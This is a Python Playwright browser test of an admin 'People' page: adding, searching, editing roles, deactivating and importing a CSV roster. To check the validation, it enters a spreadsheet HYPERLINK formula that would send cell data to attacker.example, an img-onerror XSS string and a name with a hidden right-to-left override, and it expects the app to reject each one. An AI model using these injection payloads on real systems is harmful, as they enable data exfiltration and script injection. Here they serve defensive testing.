"""The administrator manages people in Chromium: add (a bad name first), edit a role,
deactivate with a confirmation, import the roster from a CSV file twice."""

from __future__ import annotations

import re

import pytest

from assessment import queries
from assessment.extensions import db
from tests.e2e.helpers import check, sign_in

pytestmark = pytest.mark.browser

ROSTER = (
    "email;name;role;permissions\n"
    "rowan@example.com;Rowan Roster;hr;fact_owner\n"
    "sam@example.com;Sam Semicolon;;committee|hr_coordinator\n"
    "mallory@example.com;Mallory\u202eyrollaM;cio;\n"
)


def test_admin_adds_edits_deactivates_and_imports_people(
    browser, live_app, live_server, demo, context, tmp_path
):
    from playwright.sync_api import expect

    page = context.new_page()
    sign_in(page, live_server, "admin@example.com", demo["admin@example.com"])
    page.get_by_role("navigation", name="Main").get_by_role("link", name="People").click()
    expect(page.get_by_role("heading", name="People", exact=True)).to_be_visible()
    check(page, "people-1-list")

    # Add: a formula for a name and markup for an address are refused, then a good person.
    page.get_by_role("link", name="Add a person").click()
    page.get_by_label("Name").fill('=HYPERLINK("https://attacker.example/?d="&A1,"Click")')
    page.get_by_label("E-mail", exact=True).fill('"><h1>X</h1><img src=x onerror=alert(1)>')
    page.get_by_role("button", name="Add the person").click()
    expect(page.locator("#name-error")).to_contain_text("cannot start with =, +, - or @")
    expect(page.locator("#email-error")).to_contain_text("must have an @-sign")
    assert page.locator("main h1").count() == 1  # the markup stayed text
    check(page, "people-2-add-errors")
    page.get_by_label("Name").fill("Dana Doe")
    page.get_by_label("E-mail", exact=True).fill("Dana@Example.com")
    page.get_by_label("Executive role").select_option(label="HR executive")
    page.get_by_label("Fact owner").check()
    expect(page.get_by_label("E-mail a link to set a password")).to_be_checked()
    page.get_by_role("button", name="Add the person").click()
    expect(page.locator(".flash")).to_contain_text(
        "Dana Doe was added and was e-mailed a link to set a password."
    )

    # Search, open, change the role.
    page.get_by_label("Search by name, e-mail or role").fill("dana")
    page.get_by_role("button", name="Search").click()
    page.get_by_role("link", name="Dana Doe").click()
    expect(page.get_by_label("Executive role")).to_have_value("hr")
    check(page, "people-3-edit")
    page.get_by_label("Executive role").select_option(label="CIO")
    page.get_by_role("button", name="Save changes").click()
    expect(page.locator(".flash")).to_contain_text("Saved Dana Doe: role changed.")
    row = page.get_by_role("row", name=re.compile("Dana Doe"))
    expect(row).to_contain_text("CIO")

    # Deactivate, after reading what it does.
    row.get_by_role("link", name="Dana Doe").click()
    page.get_by_role("link", name="Deactivate Dana Doe…").click()
    expect(page.get_by_text("every session they have open ends at once")).to_be_visible()
    check(page, "people-4-deactivate")
    page.get_by_role("button", name="Deactivate Dana Doe").click()
    expect(page.locator(".flash")).to_contain_text("Dana Doe is deactivated.")
    page.get_by_label("Show").select_option(label="Deactivated")
    page.get_by_role("button", name="Search").click()
    expect(page.get_by_role("row", name=re.compile("Dana Doe"))).to_contain_text("Deactivated")
    with live_app.app_context():
        dana = queries.find_account_by_email(db.session, "dana@example.com")
        assert dana is not None and not dana.active and dana.person.role == "cio"

    # Import through the file chooser: a preview with one refused row, then confirm.
    roster = tmp_path / "leadership roster.csv"
    roster.write_bytes(b"\xef\xbb\xbf" + ROSTER.encode())
    page.get_by_role("link", name="Import the roster from CSV").click()
    check(page, "people-5-import")
    with page.expect_file_chooser() as chooser:
        page.get_by_label("CSV file").click()
    chooser.value.set_files(str(roster))
    page.get_by_role("button", name="Preview the import").click()
    expect(page.get_by_role("heading", name="Roster preview")).to_be_visible()
    expect(page.get_by_text("Nothing has been written yet.")).to_be_visible()
    error_row = page.get_by_role("row", name=re.compile("mallory@example.com"))
    expect(error_row).to_contain_text("invisible formatting characters (U+202E)")
    expect(page.get_by_role("row", name=re.compile("rowan@example.com"))).to_contain_text(
        "New person"
    )
    check(page, "people-6-preview")
    page.get_by_role("button", name=re.compile(r"^Import 2 people")).click()
    expect(page.locator(".flash")).to_contain_text(
        "Imported: 2 added, 0 changed (0 unchanged; 1 row(s) with errors skipped)"
    )
    expect(page.get_by_role("row", name=re.compile("Rowan Roster"))).to_contain_text("HR executive")
    expect(page.get_by_role("row", name=re.compile("Sam Semicolon"))).to_contain_text(
        "Committee member, HR coordinator"
    )
    assert page.get_by_text("Mallory").count() == 0

    # The same file again: everything unchanged, nothing to confirm.
    page.get_by_role("link", name="Import the roster from CSV").click()
    with page.expect_file_chooser() as chooser:
        page.get_by_label("CSV file").click()
    chooser.value.set_files(str(roster))
    page.get_by_role("button", name="Preview the import").click()
    expect(page.locator("tr.outcome-unchanged")).to_have_count(2)
    expect(page.locator("tr.outcome-new")).to_have_count(0)
    expect(page.get_by_text("Nothing to import")).to_be_visible()
    assert page.get_by_role("button", name=re.compile("^Import")).count() == 0
    check(page, "people-7-preview-again")
